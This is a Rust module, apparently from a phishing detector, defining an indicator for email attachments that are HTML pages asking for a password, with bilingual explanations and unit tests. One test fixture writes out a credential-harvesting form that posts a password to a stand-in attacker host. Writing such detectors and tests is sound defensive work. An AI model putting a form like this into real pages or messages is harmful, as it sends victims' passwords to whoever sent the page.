//! An attached page that asks for a password.
//!
//! # Detects
//!
//! An attached page, also in an archive, with a field for a password.
//!
//! # Why it matters
//!
//! What is typed into the attached page goes to the sender and not to the real site.
//!
//! # False positives
//!
//! Encrypted mail that opens in a page with a password, as some banks and hospitals send.
//!
//! # References
//!
//! - MITRE ATT&CK T1598.002
//! - Council of Anti-Phishing Japan, monthly reports

use crate::message::{Attachment, Feature};

use super::{Basis, Bilingual, Category, Family, Hundredths, Indicator, Observables, Observation};

pub(super) static INDICATOR: Indicator = Indicator {
    id: "html-attachment-login-form",
    title: Bilingual {
        ja: "添付 HTML のパスワード欄", en: "an attached page that asks for a password"
    },
    category: Some(Category::Phishing),
    family: Family::Attachment,
    weight: Hundredths(330),
    hard: false,
    basis: Basis::Prior("encrypted mail gateways of banks send such pages, too; needs a second witness"),
    why: Bilingual {
        ja: "添付のページに入力したパスワードは、本物のサイトではなく送り主に届きます。",
        en: "What is typed into the attached page goes to the sender and not to the real site.",
    },
    genuine: Bilingual {
        ja: "本物のサインイン画面は、事業者の公式サイトにだけあります。",
        en: "Genuine sign-in pages stand on the company's own site only.",
    },
    false_positives: Bilingual {
        ja: "パスワードで開く暗号化メールの HTML（銀行や医療機関が使う）。",
        en: "Encrypted mail that opens in a page with a password, as some banks and hospitals send.",
    },
    references: &["MITRE ATT&CK T1598.002", "Council of Anti-Phishing Japan, monthly reports"],
    check,
};

fn check(observables: &Observables<'_>) -> Option<Observation> {
    observables.attached(asks)
}

fn asks(attachment: &Attachment) -> bool {
    attachment.features.contains(&Feature::PasswordField)
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::indicator::testing;

    fn page(body: &str) -> String {
        let fields = "From: a@shop.example\r\nContent-Type: application/octet-stream; name=Statement.shtml\r\nContent-Disposition: attachment; filename=Statement.shtml\r\n";
        testing::raw(fields, &format!("<!DOCTYPE html><html><body>{body}</body></html>"))
    }

    #[test]
    fn a_password_field_fires_and_other_fields_do_not() {
        assert!(testing::fires_raw(
            &INDICATOR,
            &page("<form action=https://evil.example/p><input name=p TYPE='Password'></form>")
        ));
        assert!(!testing::fires_raw(
            &INDICATOR,
            &page("<form><input name=q type=search></form> Never type your password.")
        ));
    }
}
